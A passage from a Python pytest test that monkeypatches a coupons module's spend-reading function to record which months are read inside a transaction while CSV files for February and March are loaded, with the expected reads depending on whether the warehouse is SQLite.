    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    read_inside: list[str] = []
    spends_in_transaction = coupons._spends

    def recorded(conn: Any, month: str, rules: RulesSettings) -> coupons.Spends | None:
        read_inside.append(month)
        return spends_in_transaction(conn, month, rules)

    monkeypatch.setattr(coupons, "_spends", recorded)
    env.land("feb.csv", FEB)
    env.run()
    env.land("mar.csv", MAR)
    env.run()
    assert by_month(env) == EXPECTED
    # SQLite reads a month in the transaction (fast, and its reads hold the GIL)
    beside = env.warehouse.dialect != "sqlite"
    assert read_inside == ([] if beside else ["2024-02", "2024-03", "2024-03", "2024-04"])
